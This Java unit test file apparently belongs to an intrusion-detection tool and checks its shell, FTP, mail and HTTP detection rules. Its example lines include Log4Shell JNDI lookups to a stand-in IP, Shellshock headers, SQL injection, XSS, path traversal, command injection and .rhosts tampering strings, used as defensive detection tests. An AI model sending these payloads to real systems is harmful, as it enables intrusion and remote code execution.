package gatewatch.features.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every rule of every table with a line it must match and a near miss it must not: each rule is
 * exercised and can fail. A rule added without examples fails {@link #everyRuleHasExamples}.
 */
class RuleTablesTest {
    /** Every rule table of the content stage. */
    private static final List<List<? extends Rule<?>>> TABLES = List.of(ShellRules.COMMANDS, ShellRules.OUTPUT,
            ShellRules.PROMPTS, LoginRules.SERVER, FtpRules.COMMANDS, FtpRules.GUEST_COMMANDS, FtpRules.REPLIES,
            MailRules.POP3_COMMANDS, MailRules.POP3_REPLIES, MailRules.IMAP_COMMANDS, MailRules.IMAP_REPLIES,
            MailRules.SMTP_COMMANDS, MailRules.SMTP_ENVELOPE, HttpRules.LINES, HttpRules.REQUEST, HttpRules.HEADER);

    private record Example(List<? extends Rule<?>> table, int rule, String hit, String miss) {
    }

    private static final List<Example> EXAMPLES = new ArrayList<>();

    private static void ex(List<? extends Rule<?>> table, int rule, String hit, String miss) {
        EXAMPLES.add(new Example(table, rule, hit, miss));
    }

    static {
        List<Rule<Effect>> c = ShellRules.COMMANDS;
        ex(c, 0, "cd /etc", "cd etc");
        ex(c, 0, "ls; cd /usr/bin", "cd /usr/share");
        ex(c, 1, "gcc -o x x.c", "echo gcc");
        ex(c, 1, "/usr/bin/cc x.c", "ccat x");
        ex(c, 2, "./a.out", "ls ./");
        ex(c, 2, "../bin/x", "cat a/./b");
        ex(c, 3, "loadmodule", "load module");
        ex(c, 3, "unset HISTFILE", "unset PATH");
        ex(c, 4, "su", "sudo ls");
        ex(c, 4, "/bin/su - root", "ls su");
        ex(c, 5, "/bin/sh -i", "shutdown");
        ex(c, 5, "exec csh", "cshrc");
        ex(c, 6, "echo x > f", "ls 2>&1");
        ex(c, 6, "cat a >>log", "ls 2>/dev/null");
        ex(c, 7, "touch x", "touchy");
        ex(c, 7, "mkdir /tmp/.x", "ls mkdir");
        ex(c, 8, "cat /etc/passwd", "cat /etc/motd");
        ex(c, 8, "echo + + > .rhosts", "echo rhosts");
        ex(c, 9, "passwd", "passwdx");
        ex(c, 9, "/usr/bin/chsh", "echo chsh");
        List<Rule<Effect>> o = ShellRules.OUTPUT;
        ex(o, 0, "sh: foo: not found", "found it");
        ex(o, 1, "Jumping to address 0xefff", "jumping to address");
        ex(o, 2, "Segmentation fault (core dumped)", "segment");
        ex(o, 3, "uid=0(root) gid=0(wheel)", "uid=100(bob)");
        ex(o, 4, "-rwsr-xr-x 1 root wheel 1 /bin/sh", "-rwxr-xr-x 1 root wheel 1 /bin/sh");
        ex(o, 4, "Trojaning in progress", "trojan");
        ex(o, 4, "gcc smashdu.c", "smash.c");
        ex(o, 4, "PATH_UTMP", "PATH");
        ex(o, 1, "Jumping Address 0x1", "Jumped");
        ex(o, 2, "Illegal instruction", "illegal");
        ex(ShellRules.PROMPTS, 0, "bash# ", "# comment line");
        ex(ShellRules.PROMPTS, 1, "$ ", "costs $5 ");
        List<Rule<LoginRules.Event>> l = LoginRules.SERVER;
        ex(l, 0, "login: ", "last login: yesterday");
        ex(l, 1, "Password:", "password changed");
        ex(l, 2, "Login incorrect", "login correct");
        ex(l, 3, "2 failures since last successful login", "failure");
        ex(l, 4, "Last login: Sat Nov 27", "last login");
        ex(FtpRules.COMMANDS, 0, "STOR x", "RETR x");
        ex(FtpRules.COMMANDS, 1, "RETR /etc/passwd", "RETR passwords.txt.gz x");
        ex(FtpRules.COMMANDS, 2, "SITE EXEC /bin/sh", "SITE CHMOD 644 x");
        ex(FtpRules.GUEST_COMMANDS, 0, "RETR x", "TYPE I");
        ex(FtpRules.GUEST_COMMANDS, 1, "STOR .rhosts", "STOR rhosts");
        ex(FtpRules.REPLIES, 0, "230 Guest login ok", "2301 x");
        ex(FtpRules.REPLIES, 1, "530 Login incorrect.", "331 Password required");
        ex(FtpRules.REPLIES, 2, "234 AUTH TLS ok", "230 ok");
        ex(MailRules.POP3_COMMANDS, 0, "USER bob", "USERS");
        ex(MailRules.POP3_COMMANDS, 1, "PASS x", "PASSWORD x");
        ex(MailRules.POP3_COMMANDS, 2, "APOP bob d41d8", "APOPX");
        ex(MailRules.POP3_COMMANDS, 3, "AUTH PLAIN", "AUTHX");
        ex(MailRules.POP3_COMMANDS, 4, "STLS", "STLS now");
        ex(MailRules.POP3_COMMANDS, 5, "RETR 1", "LIST 1");
        ex(MailRules.POP3_REPLIES, 0, "+OK done", "OK done");
        ex(MailRules.POP3_REPLIES, 1, "-ERR no", "ERR no");
        ex(MailRules.IMAP_COMMANDS, 0, "a1 LOGIN bob x", "a1 LOGOUT");
        ex(MailRules.IMAP_COMMANDS, 1, "a1 AUTHENTICATE PLAIN", "AUTHENTICATE PLAIN");
        ex(MailRules.IMAP_COMMANDS, 2, "a1 STARTTLS", "a1 STARTTLS x");
        ex(MailRules.IMAP_REPLIES, 0, "a1 OK done", "a1 OKAY");
        ex(MailRules.IMAP_REPLIES, 1, "a1 NO bad", "a1 NOOP");
        ex(MailRules.IMAP_REPLIES, 2, "* PREAUTH hi", "* OK PREAUTH");
        ex(MailRules.SMTP_COMMANDS, 0, "EHLO me", "EHLOX");
        ex(MailRules.SMTP_COMMANDS, 1, "AUTH LOGIN", "AUTHLOGIN");
        ex(MailRules.SMTP_COMMANDS, 2, "DATA", "DATAX");
        ex(MailRules.SMTP_COMMANDS, 3, "STARTTLS", "STARTTLS x");
        ex(MailRules.SMTP_ENVELOPE, 0, "RCPT TO:<\"|/bin/sh\">", "RCPT TO:<a@b>");
        ex(MailRules.SMTP_ENVELOPE, 1, "RCPT TO:<bob/.forward>", "RCPT TO:<forward@b>");
        ex(MailRules.SMTP_ENVELOPE, 2, "RCPT TO:</tmp/x>", "RCPT TO:<a/b@c>");
        ex(HttpRules.LINES, 0, "GET / HTTP/1.1", "get / http/1.1");
        ex(HttpRules.LINES, 1, "Authorization: Basic eA==", "X-Authorization: y");
        ex(HttpRules.LINES, 2, "HTTP/1.1 200 OK", "HTTP/1.1 OK");
        ex(HttpRules.LINES, 3, "HTTP/1.0 401 Unauthorized", "HTTP/1.0 404 Not Found");
        ex(HttpRules.REQUEST, 0, "GET /cgi-bin/phf?Q=x HTTP/1.0", "GET /cgi-bin/phfx HTTP/1.0");
        ex(HttpRules.REQUEST, 1, "GET /a/../../b HTTP/1.0", "GET /a..b HTTP/1.0");
        ex(HttpRules.REQUEST, 2, "GET /" + "/".repeat(40) + " HTTP/1.0", "GET /a/b/c/d HTTP/1.0");
        ex(HttpRules.REQUEST, 3, "GET /etc/passwd HTTP/1.0", "GET /etc/hosts HTTP/1.0");
        ex(HttpRules.REQUEST, 4, "GET /x?c=/bin/sh HTTP/1.0", "GET /bin/shop HTTP/1.0");
        ex(HttpRules.REQUEST, 5, "GET /s?q=lamp' UNION ALL SELECT CHAR(113),NULL-- x HTTP/1.1", "GET /union/selection HTTP/1.1");
        ex(HttpRules.REQUEST, 6, "GET /sqli/?id=1'+and+1=1#&Submit=Submit HTTP/1.1", "GET /shop/rock'n'roll+and+blues HTTP/1.1");
        ex(HttpRules.REQUEST, 6, "GET /s?q=lamp) AND 1044=1044 AND (4809=4809 HTTP/1.1", "GET /s?a=1&b=2&or=3 HTTP/1.1");
        ex(HttpRules.REQUEST, 7, "GET /s?q=lamp') ORDER BY 1-- coMo HTTP/1.1", "GET /s?sort=order+by+date HTTP/1.1");
        ex(HttpRules.REQUEST, 8, "GET /s?id=1 AND SLEEP(5) HTTP/1.1", "GET /sleep-tips/benchmarks HTTP/1.1");
        ex(HttpRules.REQUEST, 9, "GET /s?id=0 union select table_name from information_schema.tables HTTP/1.1",
                "GET /docs/information-schema.html HTTP/1.1");
        ex(HttpRules.REQUEST, 10, "GET /lookup.php?host=localhost;id HTTP/1.1", "GET /app;jsessionid=AB12 HTTP/1.1");
        ex(HttpRules.REQUEST, 11, "GET /q?s=<script>alert(1)</script> HTTP/1.1", "GET /scripts/app.js?onloaded=1 HTTP/1.1");
        ex(HttpRules.REQUEST, 12, "GET /?x=${jndi:ldap://198.51.100.7:1389/a} HTTP/1.1", "GET /tpl?name=${user} HTTP/1.1");
        ex(HttpRules.REQUEST, 12, "GET /?x=${${lower:j}ndi:${lower:l}dap://h/a} HTTP/1.1", "GET /price?v=$5{off} HTTP/1.1");
        ex(HttpRules.REQUEST, 12, "GET /?x=${${::-j}${::-n}di:rmi://h/a} HTTP/1.1", "GET /a?b=${c}-${d} HTTP/1.1");
        ex(HttpRules.REQUEST, 13, "GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1",
                "GET /docs/php/filters.html HTTP/1.1");
        ex(HttpRules.REQUEST, 13, "GET /view?file=../../../../proc/self/environ HTTP/1.1", "GET /proc/selfie.jpg HTTP/1.1");
        ex(HttpRules.REQUEST, 13, "GET /fetch?u=file:///etc/hosts HTTP/1.1", "GET /go?u=https://example.org/ HTTP/1.1");
        ex(HttpRules.HEADER, 0, "User-Agent: ${jndi:ldap://198.51.100.7/Basic/Command/Base64/aWQ=}",
                "User-Agent: curl/8.5.0 (x86_64) ${HOME}");
        ex(HttpRules.HEADER, 0, "X-Api-Version: ${${env:NaN:-j}ndi${env:NaN:-:}ldap://h/a}", "Accept: */*");
        ex(HttpRules.HEADER, 1, "User-Agent: () { :; }; /bin/bash -c 'id'", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)");
        ex(HttpRules.HEADER, 1, "Referer: () { ignored;}; echo; /usr/bin/id", "Cookie: cb=function(){return 1};");
    }

    static Stream<Arguments> examples() {
        return EXAMPLES.stream().map(e -> Arguments.of(e.table().get(e.rule()).source(), e));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("examples")
    void ruleMatchesItsHitAndNotItsMiss(String source, Object example) {
        Example e = (Example) example;
        Rule<?> rule = e.table().get(e.rule());
        assertThat(rule.pattern().matcher(e.hit()).find()).as("hit: " + e.hit()).isTrue();
        assertThat(rule.pattern().matcher(e.miss()).find()).as("miss: " + e.miss()).isFalse();
        if (rule.keywords() != null) {
            // The literal prefilter must let every true match through.
            byte[] b = e.hit().getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
            AsciiLine line = new AsciiLine(b.length);
            line.set(b, 0, b.length);
            long present = new KeywordAutomaton(new byte[][][] {rule.keywords()}).scan(line);
            assertThat(present & 1L).as("prefilter lets through: " + e.hit()).isEqualTo(1L);
        }
    }

    @Test
    void everyRuleHasExamples() {
        Map<Rule<?>, Boolean> covered = new IdentityHashMap<>();
        EXAMPLES.forEach(e -> covered.put(e.table().get(e.rule()), true));
        for (List<? extends Rule<?>> t : TABLES) {
            for (Rule<?> r : t) {
                assertThat(covered.containsKey(r)).as("examples for: " + r.source()).isTrue();
                assertThat(r.source()).isNotBlank();
            }
        }
    }

    /**
     * The prefilter may only skip lines the expression cannot match. Examples show one hit each;
     * this builds 200,000 random lines per table from pieces of every example of every table
     * (words, separators, paths, literals in both cases) and requires that whenever a prefiltered
     * rule's expression finds a match, the literal scan reported the rule.
     */
    @Test
    void prefiltersNeverHideAMatchOnRandomLines() {
        List<String> pieces = new ArrayList<>();
        for (Example e : EXAMPLES) {
            for (String line : List.of(e.hit(), e.miss())) {
                pieces.addAll(List.of(line.split("(?<=[\\s;&|/>.])|(?=[\\s;&|/>.])")));
                pieces.add(line);
            }
        }
        pieces.addAll(List.of(" ", "  ", ";", "&", "|", "(", "`", ">", ">>", "/", ".", "..", "-", "_", "$", "#"));
        java.util.Random r = new java.util.Random(42);
        long checkedMatches = 0;
        long anchoredChecks = 0;
        for (List<? extends Rule<?>> table : TABLES) {
            byte[][][] keywords = table.stream().map(Rule::keywords).toArray(byte[][][]::new);
            KeywordAutomaton automaton = new KeywordAutomaton(keywords);
            for (int n = 0; n < 200_000; n++) {
                StringBuilder sb = new StringBuilder();
                for (int k = 1 + r.nextInt(6); k > 0; k--) {
                    String piece = pieces.get(r.nextInt(pieces.size()));
                    sb.append(r.nextBoolean() ? piece : piece.toUpperCase(java.util.Locale.ROOT));
                }
                byte[] b = sb.toString().getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
                AsciiLine line = new AsciiLine(b.length);
                line.set(b, 0, b.length);
                long present = automaton.scan(line);
                for (int i = 0; i < table.size(); i++) {
                    Rule<?> rule = table.get(i);
                    if (RuleMatcher.anchoredAtStart(rule.pattern())) {
                        anchoredChecks++;
                        assertThat(rule.pattern().matcher(line).lookingAt()).as("anchored '%s' on: %s", rule.source(), sb)
                                .isEqualTo(rule.pattern().matcher(line).find());
                    }
                    if (rule.keywords() != null && rule.pattern().matcher(line).find()) {
                        checkedMatches++;
                        assertThat(present & (1L << i)).as("prefilter of '%s' hides a match in: %s", rule.source(), sb)
                                .isNotZero();
                    }
                }
            }
        }
        assertThat(checkedMatches).as("random lines that some prefiltered rule matched").isGreaterThan(10_000);
        assertThat(anchoredChecks).as("lines tried against rules anchored at the start").isGreaterThan(100_000);
    }

    @Test
    void onlyPatternsWhoseEveryMatchStartsAtZeroCountAsAnchored() {
        java.util.function.Predicate<String> anchored = re -> RuleMatcher.anchoredAtStart(java.util.regex.Pattern.compile(re));
        assertThat(anchored.test("^USER\\s")).isTrue();
        assertThat(anchored.test("^(?:Proxy-)?Authorization\\s*:")).isTrue();
        assertThat(anchored.test("^(?:a|b)c")).isTrue();
        assertThat(anchored.test("^[|(]x")).isTrue();
        assertThat(anchored.test("^\\|x")).isTrue();
        assertThat(anchored.test("^a|b")).isFalse();
        assertThat(anchored.test("^-r.s.*root|Trojaning")).isFalse();
        assertThat(anchored.test("a^")).isFalse();
        assertThat(anchored.test("(?m)^a")).isFalse();
        assertThat(anchored.test("^a(?m)$")).isFalse();
        assertThat(RuleMatcher.anchoredAtStart(java.util.regex.Pattern.compile("^a", java.util.regex.Pattern.MULTILINE))).isFalse();
    }
}
